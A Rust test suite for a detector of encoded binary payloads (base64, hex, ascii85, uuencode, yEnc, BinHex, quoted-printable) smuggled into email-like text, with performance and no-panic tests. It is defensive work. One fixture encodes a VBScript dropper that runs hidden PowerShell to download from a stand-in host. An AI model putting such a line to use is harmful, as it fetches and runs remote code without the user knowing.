//! Shapes that must be found, text that must survive, and growth (linear time) tests.

use super::blocks::{b64_payload, separator};
use super::*;

/// A small PE image carrying `token`.
fn pe(token: &str) -> Vec<u8> {
    let mut d = vec![0u8; 0x200];
    d[..2].copy_from_slice(b"MZ");
    d[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
    d[0x40..0x40 + 39].copy_from_slice(b"This program cannot be run in DOS mode.");
    d[0x80..0x86].copy_from_slice(b"PE\0\0\x4c\x01");
    d.extend_from_slice(token.as_bytes());
    d.extend((0..300u32).map(|i| (i * 7 + 3) as u8));
    d
}

fn b64(data: &[u8]) -> String {
    base64_simd::STANDARD.encode_to_string(data)
}

fn lines_of(s: &str, width: usize, prefix: &str, sep: &str) -> String {
    s.as_bytes()
        .chunks(width)
        .map(|c| format!("{prefix}{}", std::str::from_utf8(c).unwrap_or("")))
        .collect::<Vec<_>>()
        .join(sep)
}

/// Asserts exactly one block is cut, and that `before`/`after` lines survive around it.
fn one_cut(text: &str, before: &str, after: &str) -> Smuggled {
    let f = find_str(text);
    assert_eq!(f.len(), 1, "{f:?} in {text:.200}");
    let s = f.into_iter().next().unwrap();
    let kept = format!("{}{}", &text[..s.range.start], &text[s.range.end..]);
    assert!(kept.contains(before), "{before} lost: {kept}");
    assert!(kept.contains(after), "{after} lost: {kept}");
    s
}

fn wrap(block: &str) -> String {
    format!("お世話になっております。\nBEFORE-LINE here\n\n{block}\n\nAFTER-LINE here。\n")
}

#[test]
fn base64_shapes_are_found() {
    let enc = b64(&pe("TOKEN-B64"));
    let shapes = [
        enc.clone(),
        lines_of(&enc, 39, "", "\n"),
        lines_of(&enc, 76, "    ", "\n"),
        lines_of(&enc, 76, "> ", "\n"),
        lines_of(&enc, 76, "> > | ", "\n"),
        lines_of(&enc, 60, "", "\n\n"),
        lines_of(&enc, 64, "", "   \n"),
        lines_of(&enc.replace('+', "-").replace('/', "_"), 76, "", "\n"),
        format!("data: {}", lines_of(&enc, 76, "", "\n")),
        lines_of(&enc, 64, "", "\n")
            .lines()
            .map(|l| lines_of(l, 8, "", " "))
            .collect::<Vec<_>>()
            .join("\n"),
    ];
    for shape in shapes {
        let s = one_cut(&wrap(&shape), "BEFORE-LINE", "AFTER-LINE");
        assert_eq!(s.kind, "base64");
        assert!(s.data.windows(9).any(|w| w == b"TOKEN-B64"));
    }
}

#[test]
fn misaligned_base64_is_found() {
    for junk in ["Q", "QU", "QUJ"] {
        let enc = format!("{junk}{}", b64(&pe("TOKEN-SHIFT")));
        one_cut(
            &wrap(&lines_of(&enc, 76, "", "\n")),
            "BEFORE-LINE",
            "AFTER-LINE",
        );
    }
}

#[test]
fn three_lines_of_base64_script() {
    let script = "Set o = CreateObject(\"WScript.Shell\")\r\no.Run \"powershell -w hidden -c iwr http://x\"\r\n";
    let enc = b64(script.as_bytes());
    assert!(enc.len() <= 3 * 76);
    one_cut(
        &wrap(&lines_of(&enc, 76, "", "\n")),
        "BEFORE-LINE",
        "AFTER-LINE",
    );
}

#[test]
fn hex_shapes_are_found() {
    let data = pe("TOKEN-HEX");
    let plain: String = data.iter().map(|b| format!("{b:02x}")).collect();
    let xxd: String = data
        .chunks(16)
        .enumerate()
        .map(|(n, c)| {
            let hex: Vec<String> = c
                .chunks(2)
                .map(|p| p.iter().map(|b| format!("{b:02x}")).collect())
                .collect();
            format!("{:08x}: {}  ................\n", n * 16, hex.join(" "))
        })
        .collect();
    let list: String = data.iter().map(|b| format!("0x{b:02x}, ")).collect();
    for shape in [plain.clone(), lines_of(&plain, 64, "> ", "\n"), xxd, list] {
        let s = one_cut(&wrap(&shape), "BEFORE-LINE", "AFTER-LINE");
        assert_eq!(s.kind, "hex", "{shape:.80}");
    }
}

#[test]
fn ascii85_is_found_with_and_without_end() {
    let data = pe("TOKEN-A85");
    let mut enc = String::new();
    for c in data.chunks(4) {
        let mut g = [0u8; 4];
        g[..c.len()].copy_from_slice(c);
        let mut v = u32::from_be_bytes(g) as u64;
        let mut d = [0u8; 5];
        for x in d.iter_mut().rev() {
            *x = (v % 85) as u8 + b'!';
            v /= 85;
        }
        enc.push_str(std::str::from_utf8(&d[..c.len() + 1]).unwrap());
    }
    for closed in [true, false] {
        let block = format!(
            "<~{}{}",
            lines_of(&enc, 72, "", "\n"),
            if closed { "~>" } else { "" }
        );
        let s = one_cut(&wrap(&block), "BEFORE-LINE", "AFTER-LINE");
        assert_eq!(s.kind, "ascii85");
        assert!(s.data.windows(9).any(|w| w == b"TOKEN-A85"));
    }
}

#[test]
fn uuencode_without_end_is_found() {
    let text = "before\nbegin 644 a.exe\n#0V%T\n`\nafter\n";
    let s = one_cut(text, "before", "after");
    assert_eq!(s.kind, "uuencode");
}

#[test]
fn ordinary_text_survives() {
    let texts = [
        "お世話になっております。総務課の山田です。\n来週の会議資料をお送りします。\nよろしくお願いいたします。\n".repeat(50),
        "Please see https://www.example.com/track/click?u=aHR0cHM6Ly93d3cuZXhhbXBsZS5jb20vbmV3cy8yMDI0LzExL3N0b3J5LWFib3V0LXNvbWV0aGluZy1pbnRlcmVzdGluZw&id=8f3a2b1c9d8e7f6a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c&utm_source=newsletter\n".to_string(),
        "SHA-256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\ncommit 9fceb02d0ae598e95dc970b74767f19372d61af8\nid 550e8400-e29b-41d4-a716-446655440000\n".repeat(20),
        "-----BEGIN PGP SIGNATURE-----\n\niQIzBAEBCAAdFiEEZbq1t7xF0f8vTq0Gd2n4O7fJ0dYFAmVkW8wACgkQd2n4O7fJ\n0dZQ0A/+L8s0p2mS9vJc0fQ4uK1n3oQm7y6bWcVh0xXk4bJ3kq5c2bG8yqR2H3nW\nxY0eG1o7b8s9cT3lN0wQ5n2V3m8R4fK9gB1dZ0k7yQ2x3C5v8A9nM4wB6eH1jL0p\n=Xq3R\n-----END PGP SIGNATURE-----\n".to_string(),
        "DKIM-Signature: v=1; a=rsa-sha256; d=example.com; s=sel;\n\tbh=47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=;\n\tb=dzdVyOfAKCdLXdJOc9G2q8LoXSlEniSbav+yuU4zGeeruD00lszZVoG4ZHRNiYzR\n\t XjYNWwbGqWPKuFb8YzV1Rz1jMJUmCzk1fB6jT1e9G9MjqP+xgQvdT6v8zW0xY2fQ\n\t Fw1m1JqS3b4n9tZ0aU9c4Z0oB2g5XmH3vR1pK7yL0sQ==\n".to_string(),
        "| 項目 | 2024 | 2025 |\n| 予算 | 1000 | 2000 |\n".repeat(100),
        "THANKS\nREGARDS\nTARO\n".repeat(100),
    ];
    for t in texts {
        assert!(find_str(&t).is_empty(), "cut from: {t:.300}");
    }
}

#[test]
fn pgp_armour_with_a_payload_is_cut() {
    let enc = b64(&pe("TOKEN-PGP"));
    let t = format!(
        "-----BEGIN PGP SIGNATURE-----\n\n{}\n-----END PGP SIGNATURE-----\n",
        lines_of(&enc, 64, "", "\n")
    );
    assert_eq!(find_str(&t).len(), 1);
}

/// Best of five timings of `f` on each input, taken in turns so that load on the machine
/// hits both alike. Each timing is the mean over as many calls as fill 60 ms, because the
/// thread clock may advance in scheduler ticks (4 ms) and one call can take less than that.
fn times(f: impl Fn(&[u8]) -> usize, a: &[u8], b: &[u8]) -> (f64, f64) {
    let clock = || cpu_seconds();
    let wall = std::time::Instant::now();
    let now = || clock().unwrap_or_else(|| wall.elapsed().as_secs_f64());
    let once = |input: &[u8]| {
        let (begin, started, mut count) = (now(), std::time::Instant::now(), 0u32);
        loop {
            std::hint::black_box(f(std::hint::black_box(input)));
            count += 1;
            let spent = now() - begin;
            // The wall-clock bound only guards against a thread clock that does not move.
            if spent >= 0.06 || started.elapsed().as_secs() >= 5 {
                return spent / f64::from(count);
            }
        }
    };
    let (mut ta, mut tb) = (f64::MAX, f64::MAX);
    for _ in 0..5 {
        ta = ta.min(once(a));
        tb = tb.min(once(b));
    }
    (ta, tb)
}

/// CPU time of this thread (Linux schedstat, in ns), so that other processes on a loaded
/// machine do not count; `None` elsewhere (wall time is used then).
fn cpu_seconds() -> Option<f64> {
    let s = std::fs::read_to_string("/proc/thread-self/schedstat").ok()?;
    let ns: f64 = s.split_whitespace().next()?.parse().ok()?;
    Some(ns / 1e9)
}

/// Asserts that 8 times the input takes less than 12 times as long.
fn grows_linearly(name: &str, make: impl Fn(usize) -> Vec<u8>, n: usize) {
    let f = |t: &[u8]| find(t).len();
    let (small, big) = (make(n), make(8 * n));
    let (a, b) = times(f, &small, &big);
    let ratio = b / a.max(1e-6);
    assert!(
        ratio < 12.0,
        "{name}: {a:.4}s for n, {b:.4}s for 8n (ratio {ratio:.1})"
    );
}

#[test]
fn growth_begin_without_end() {
    grows_linearly("begin", |n| b"begin 644 x.exe\nM\n".repeat(n), 20_000);
    grows_linearly("begin-only", |n| b"begin 644 x.exe\n".repeat(n), 20_000);
    grows_linearly("empty-lines", |n| b"\n".repeat(n), 100_000);
}

#[test]
fn growth_ybegin_without_yend() {
    grows_linearly(
        "ybegin",
        |n| b"=ybegin line=128 size=9 name=a\nabc\n".repeat(n),
        20_000,
    );
    grows_linearly(
        "ybegin-para",
        |n| b"=ybegin line=128 size=9 name=a\n\n".repeat(n),
        20_000,
    );
}

#[test]
fn growth_one_long_base64_line() {
    grows_linearly("b64-line", |n| b"QUJDREVGR0hJSktM".repeat(n), 32_768);
}

#[test]
fn growth_many_short_base64_lines() {
    grows_linearly(
        "b64-short",
        |n| b"QUJDRE\nVGR0hJSktMTU5PUFFS\n\n".repeat(n),
        10_000,
    );
    grows_linearly(
        "b64-alt",
        |n| b"QUJDREVGR0hJSktMTU5PUFFSU1RV\nnot base64 here.\n".repeat(n),
        10_000,
    );
}

#[test]
fn growth_hex_runs() {
    grows_linearly("hex", |n| b"4d5a9000 0300 \n".repeat(n), 20_000);
    grows_linearly("hex-run", |n| b"4d5a90000300".repeat(n), 20_000);
}

#[test]
fn growth_ascii85_without_end() {
    grows_linearly("a85", |n| b"<~".repeat(n), 50_000);
    grows_linearly("a85-body", |n| b"<~87cURD]i,\"Ebo80\n".repeat(n), 20_000);
}

#[test]
fn growth_armour_without_end() {
    grows_linearly(
        "armour",
        |n| b"-----BEGIN PGP SIGNATURE-----\nQUJD\n".repeat(n),
        20_000,
    );
}

#[test]
fn yenc_block_with_end() {
    let payload: Vec<u8> = b"MZhello".iter().map(|b| b.wrapping_add(42)).collect();
    let mut text = b"before\n=ybegin line=128 size=7 name=evil.bin\n".to_vec();
    text.extend_from_slice(&payload);
    text.extend_from_slice(b"\n=yend size=7\nafter\n");
    let f = find(&text);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].data, b"MZhello");
    assert_eq!(f[0].name.as_deref(), Some("evil.bin"));
    assert!(text[f[0].range.end..].starts_with(b"after"));
    assert_eq!(find_framed(&text), f);
}

#[test]
fn binhex_block() {
    let text = b"x\n(This file must be converted with BinHex 4.0)\n:!!!!!!!!\n!!!!!!!:\ny\n";
    let f = find(text);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].kind, "binhex");
    assert!(text[f[0].range.end..].starts_with(b"y"));
}

#[test]
fn base64_of_plain_text_is_kept() {
    let enc = b64("just some words in a sentence. ".repeat(40).as_bytes());
    assert!(find_str(&lines_of(&enc, 76, "", "\n")).is_empty());
}

#[test]
fn bulk_binary_of_unknown_type_is_cut() {
    let noise: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8 & 0x1f)
        .collect();
    let f = find_str(&lines_of(&b64(&noise), 76, "", "\n"));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].data.len(), 4096);
}

#[test]
fn framed_scan_ignores_base64() {
    let enc = b64(&pe("TOKEN-RAW"));
    assert!(find_framed(lines_of(&enc, 76, "", "\n").as_bytes()).is_empty());
}

#[test]
fn rendered_tables_and_lists_are_found() {
    let enc = b64(&pe("TOKEN-TABLE"));
    let rows: Vec<String> = enc
        .as_bytes()
        .chunks(60)
        .enumerate()
        .map(|(n, c)| format!("{:>2}│{}", n + 1, std::str::from_utf8(c).unwrap_or("")))
        .collect();
    let table = rows.join("\n──┼──────────────────────────────\n");
    let list = lines_of(&enc, 64, "* ", "\n");
    for shape in [table, list] {
        let s = one_cut(&wrap(&shape), "BEFORE-LINE", "AFTER-LINE");
        assert!(s.data.windows(11).any(|w| w == b"TOKEN-TABLE"));
    }
}

#[test]
fn separators_and_labels_are_not_data() {
    assert!(separator("──┼──".as_bytes()) && separator(b"+----+") && separator(b"====="));
    assert!(!separator(b"QUJD"));
    assert_eq!(
        b64_payload(b"12. QUJDREVGR0hJSktMTU5P"),
        Some((&b"QUJDREVGR0hJSktMTU5P"[..], true))
    );
    assert_eq!(
        b64_payload("お知らせ QUJDREVGR0hJSktMTU5P".as_bytes()),
        None
    );
}

#[test]
fn bulk_binary_in_a_table_or_a_sentence_is_kept() {
    let noise: Vec<u8> = (0..4096u32)
        .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8 & 0x1f)
        .collect();
    let enc = b64(&noise);
    let table = lines_of(&enc, 60, "│", "\n");
    assert!(find_str(&table).is_empty());
    let sentence = format!("https://sso.example.jp/saml?SAMLRequest={enc}&RelayState=x\n");
    assert!(find_str(&sentence).is_empty());
}

#[test]
fn escaped_lines_are_found() {
    let data = pe("TOKEN-QP");
    let qp: String = data.iter().map(|b| format!("={b:02X}")).collect();
    let pct: String = data.iter().map(|b| format!("%{b:02x}")).collect();
    for shape in [lines_of(&qp, 75, "", "=\n"), lines_of(&pct, 90, "", "\n")] {
        let s = one_cut(&wrap(&shape), "BEFORE-LINE", "AFTER-LINE");
        assert!(s.data.windows(8).any(|w| w == b"TOKEN-QP"));
    }
    let jp = "=E3=81=8A=E4=B8=96=E8=A9=B1=E3=81=AB=E3=81=AA=E3=81=A3=E3=81=A6=E3=81=8A=E3=82=8A=E3=81=BE=E3=81=99\n".repeat(10);
    assert!(find_str(&jp).is_empty());
}

#[test]
fn growth_decorated_and_escaped_lines() {
    grows_linearly(
        "table",
        |n| "12│QUJDREVGR0hJSktMTU5P│\n──┼──\n".repeat(n).into_bytes(),
        10_000,
    );
    grows_linearly("qp", |n| b"=4D=5A=90=00=03=00=00=00\n".repeat(n), 10_000);
    grows_linearly("groups", |n| b"QUJD REVG R0hJ SktM\n".repeat(n), 10_000);
}

#[test]
fn block_count_is_bounded() {
    let text = "begin 644 a\n#0V%T\n".repeat(3 * MAX_BLOCKS);
    let f = find_str(&text);
    assert_eq!(f.len(), MAX_BLOCKS + 1);
    assert_eq!(f[MAX_BLOCKS].kind, "encoded-data");
    assert_eq!(f[MAX_BLOCKS].range.end, text.len());
}

/// Fragments that open, continue or close every kind of block, for the no-panic property.
const FRAGMENTS: &[&[u8]] = &[
    b"begin 644 a.exe\n",
    b"=ybegin line=128 name=x\n",
    b"=yend\n",
    b"(This file must be converted with BinHex 4.0)\n",
    b":!!!!:\n",
    b"<~",
    b"~>",
    b"-----BEGIN PGP SIGNATURE-----\n",
    b"-----END PGP SIGNATURE-----\n",
    b"TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA\n",
    b"> > ",
    b"| ",
    "│".as_bytes(),
    "\u{3000}".as_bytes(),
    b"\xe3\x80",
    b"\xc2",
    b"=4D=5A%90",
    b"0x4d, ",
    b"00000000: 4d5a 9000  MZ..\n",
    b"#0V%T\n",
    b"`\nend\n",
    b"\r\n",
    b"\n\n",
    b" ",
];

proptest::proptest! {
    #[test]
    fn any_input_scans_without_panic(
        parts in proptest::collection::vec((0..FRAGMENTS.len(), proptest::collection::vec(proptest::prelude::any::<u8>(), 0..3)), 0..60)
    ) {
        let mut text = Vec::new();
        for (i, noise) in parts {
            text.extend_from_slice(FRAGMENTS[i]);
            text.extend_from_slice(&noise);
        }
        let found = find(&text);
        for w in found.windows(2) {
            proptest::prop_assert!(w[0].range.end <= w[1].range.start);
        }
        for s in &found {
            proptest::prop_assert!(s.range.start < s.range.end && s.range.end <= text.len());
        }
        let _ = find_framed(&text);
        if let Ok(t) = std::str::from_utf8(&text) {
            for s in find_str(t) {
                proptest::prop_assert!(t.is_char_boundary(s.range.start) && t.is_char_boundary(s.range.end));
            }
        }
    }
}

#[test]
fn zero_width_characters_do_not_hide_a_block() {
    let enc = b64(&pe("TOKEN-ZWSP"));
    let hidden = lines_of(&enc, 76, "", "\n")
        .lines()
        .map(|l| lines_of(l, 4, "", "\u{200b}"))
        .collect::<Vec<_>>()
        .join("\n");
    one_cut(&wrap(&hidden), "BEFORE-LINE", "AFTER-LINE");
}
